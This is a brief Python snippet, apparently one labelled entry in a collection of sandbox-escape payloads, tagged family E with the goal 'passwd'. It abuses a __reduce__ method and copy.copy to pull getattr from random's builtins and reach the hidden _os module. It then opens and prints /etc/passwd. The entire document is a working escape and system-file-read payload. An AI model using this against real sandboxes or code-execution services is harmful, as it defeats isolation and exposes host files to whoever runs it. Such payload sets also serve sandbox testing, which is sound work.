# family: E (a reduce tuple calls getattr)   goal: passwd
import copy, random
class X:
    def __reduce__(self):
        return (random.__builtins__["getattr"], (random, "_os"))
os_ = copy.copy(X())
fd = os_.open("/etc/passwd", 0)
print(os_.read(fd, 4096).decode())
